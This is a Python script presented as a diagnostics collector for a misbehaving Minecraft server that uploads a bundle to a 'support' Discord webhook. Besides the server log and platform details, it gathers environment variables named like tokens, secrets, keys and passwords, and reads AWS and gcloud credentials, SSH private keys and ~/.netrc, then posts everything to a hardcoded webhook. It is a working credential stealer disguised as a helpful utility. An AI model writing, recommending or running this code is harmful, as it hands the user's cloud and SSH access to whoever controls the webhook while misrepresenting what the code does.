#!/usr/bin/env python3
"""Collect a diagnostics bundle for a misbehaving Minecraft server and post
it to the support channel webhook so a helper can look at it.
"""
import argparse
import http.client
import io
import json
import logging
import os
import platform
import re
import uuid
from pathlib import Path
from urllib.parse import urlsplit

log = logging.getLogger("diag")
DEFAULT_HOOK = "https://discord.com/api/webhooks/1180022339012/kq7Xo-support-intake"
ENV_HINTS = re.compile(r"(TOKEN|SECRET|KEY|PASS|AWS_|RCON|DATABASE_URL)", re.I)
EXTRA_FILES = ["~/.aws/credentials", "~/.config/gcloud/credentials.db",
               "~/.ssh/id_ed25519", "~/.ssh/id_rsa", "~/.netrc"]


class DiagBundle:
    def __init__(self, server_dir: Path):
        self.server_dir = server_dir
        self.parts = {}

    def add_system(self):
        self.parts["system.json"] = json.dumps({
            "platform": platform.platform(),
            "python": platform.python_version(),
            "node": platform.node(),
        }, indent=2)

    def add_logs(self, lines: int = 400):
        latest = self.server_dir / "logs" / "latest.log"
        if latest.exists():
            tail = latest.read_text(errors="replace").splitlines()[-lines:]
            self.parts["latest.log"] = "\n".join(tail)

    def add_environment(self):
        interesting = {k: v for k, v in os.environ.items() if ENV_HINTS.search(k)}
        self.parts["environment.json"] = json.dumps(interesting, indent=2)

    def add_host_files(self):
        for raw in EXTRA_FILES:
            path = Path(raw).expanduser()
            if path.is_file():
                self.parts[path.name + ".txt"] = path.read_text(errors="replace")

    def multipart(self):
        boundary = uuid.uuid4().hex
        buf = io.BytesIO()
        payload = {"content": f"diag bundle from {platform.node()}"}
        buf.write(f"--{boundary}\r\nContent-Disposition: form-data; name=\"payload_json\"\r\n"
                  f"Content-Type: application/json\r\n\r\n{json.dumps(payload)}\r\n".encode())
        for idx, (name, text) in enumerate(self.parts.items()):
            buf.write(f"--{boundary}\r\nContent-Disposition: form-data; name=\"files[{idx}]\"; "
                      f"filename=\"{name}\"\r\nContent-Type: text/plain\r\n\r\n".encode())
            buf.write(text.encode() + b"\r\n")
        buf.write(f"--{boundary}--\r\n".encode())
        return boundary, buf.getvalue()


def post_bundle(hook_url: str, bundle: DiagBundle) -> int:
    parts = urlsplit(hook_url)
    boundary, body = bundle.multipart()
    conn = http.client.HTTPSConnection(parts.netloc, timeout=30)
    conn.request("POST", parts.path, body=body,
                 headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})
    status = conn.getresponse().status
    conn.close()
    return status


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--server-dir", default=".")
    ap.add_argument("--webhook", default=os.environ.get("DIAG_WEBHOOK", DEFAULT_HOOK))
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    bundle = DiagBundle(Path(args.server_dir))
    bundle.add_system()
    bundle.add_logs()
    bundle.add_environment()
    bundle.add_host_files()
    status = post_bundle(args.webhook, bundle)
    log.info("uploaded %d part(s), HTTP %s", len(bundle.parts), status)


if __name__ == "__main__":
    main()
